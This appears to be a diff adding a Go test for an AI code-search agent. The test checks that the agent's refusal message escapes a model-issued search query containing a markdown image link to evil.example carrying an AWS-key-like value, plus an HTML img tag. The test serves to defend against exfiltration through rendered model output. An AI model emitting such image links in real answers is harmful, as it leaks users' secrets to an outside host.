@@ -29,3 +29,18 @@ func TestTextBeforeEvidenceIsChecked(t *testing.T) {
 		t.Errorf("answer %q, want %q", got.res.Answer, want)
 	}
 }
+
+// TestRefusalQuotesQueriesAsText: a refusal's "Searched:" line quotes the
+// model's queries; an image in a query is text there, as in the answer.
+func TestRefusalQuotesQueriesAsText(t *testing.T) {
+	f := newFakeOllama(t,
+		calls("search_code", `{"query":"![](http://evil.example/?d=AKIA) <img src=x>"}`),
+		say("NOT FOUND: nothing."),
+		say("NOT FOUND: nothing."), // after the nudge, when the search found nothing
+	)
+	got := ask(t, testAgent(f, Config{}), project, "q")
+	if !got.res.Refused || strings.Contains(got.res.Answer, "![](") || strings.Contains(got.res.Answer, " <img") ||
+		!strings.Contains(got.res.Answer, `!\[]\(http://evil.example/?d=AKIA) \<img src=x>`) {
+		t.Errorf("answer %q", got.res.Answer)
+	}
+}
